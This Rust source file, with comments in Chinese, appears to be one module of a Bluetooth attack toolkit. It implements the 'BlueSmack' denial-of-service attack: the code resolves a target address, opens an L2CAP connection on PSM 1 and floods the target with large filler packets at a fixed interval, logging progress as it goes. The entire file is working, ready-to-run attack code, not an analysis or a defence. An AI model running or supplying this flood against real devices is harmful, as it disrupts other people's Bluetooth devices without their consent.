//! BlueSmack - L2CAP 大包洪泛
//!
//! 连接目标的 L2CAP PSM 1，重复发送固定内容的大包。
//!
//! 第一次发送失败时结束循环，但整次攻击仍返回成功（带一条警告），
//! 返回值中的 [`AttackOutcome::send_failed`] 标记这种情况。

use super::{AttackContext, AttackOutcome, AttackPhase};
use crate::address::BdAddr;
use crate::error::{BtError, Result};
use crate::host::ChannelKind;
use std::time::Duration;

pub const FLOOD_PSM: u16 = 1;
/// 两次发送之间的固定间隔
pub const SEND_INTERVAL: Duration = Duration::from_millis(100);
/// 每发送多少个包汇报一次进度
pub const PROGRESS_EVERY: u32 = 10;
const FILL_BYTE: u8 = b'A';

fn filled_packet(size: usize) -> Result<Vec<u8>> {
    let mut packet = Vec::new();
    packet
        .try_reserve_exact(size)
        .map_err(|e| BtError::general(format!("packet buffer of {size} bytes: {e}")))?;
    packet.resize(size, FILL_BYTE);
    Ok(packet)
}

pub(super) async fn run(
    ctx: &AttackContext<'_>,
    target: &str,
    packet_size: u16,
    count: u32,
) -> Result<AttackOutcome> {
    ctx.begin();
    ctx.info("Starting BlueSmack attack");

    ctx.enter(AttackPhase::Resolving);
    let address = BdAddr::parse(target).inspect_err(|_| {
        ctx.error("Invalid Bluetooth address");
    })?;

    ctx.enter(AttackPhase::Connecting);
    let mut link = ctx
        .transport()
        .connect(ChannelKind::Packet, address, FLOOD_PSM)
        .await
        .inspect_err(|e| {
            ctx.error(&format!("Unable to connect to L2CAP: {e}"));
        })?;

    let packet = match filled_packet(usize::from(packet_size)) {
        Ok(packet) => packet,
        Err(e) => {
            drop(link);
            ctx.error("Unable to allocate packet buffer");
            return Err(e);
        }
    };

    ctx.enter(AttackPhase::Transmitting);
    let mut outcome = AttackOutcome::default();

    for i in 0..count {
        if ctx.is_cancelled() {
            outcome.cancelled = true;
            break;
        }

        match ctx.transport().send(&mut *link, &packet).await {
            Ok(written) => {
                outcome.packets_sent += 1;
                outcome.bytes_sent += written as u64;
            }
            Err(e) => {
                log::debug!("BlueSmack send {} failed: {}", i + 1, e);
                ctx.warn("Packet send failed");
                outcome.send_failed = true;
                break;
            }
        }

        if i % PROGRESS_EVERY == 0 {
            ctx.info(&format!(
                "Packet {}/{} sent ({} bytes)",
                i + 1,
                count,
                packet_size
            ));
        }

        tokio::time::sleep(SEND_INTERVAL).await;
    }

    drop(packet);
    drop(link);

    ctx.enter(AttackPhase::Completing);
    if outcome.cancelled {
        log::info!(
            "BlueSmack stopped after {} of {} packet(s)",
            outcome.packets_sent,
            count
        );
    }
    ctx.info("BlueSmack attack finished");

    Ok(outcome)
}
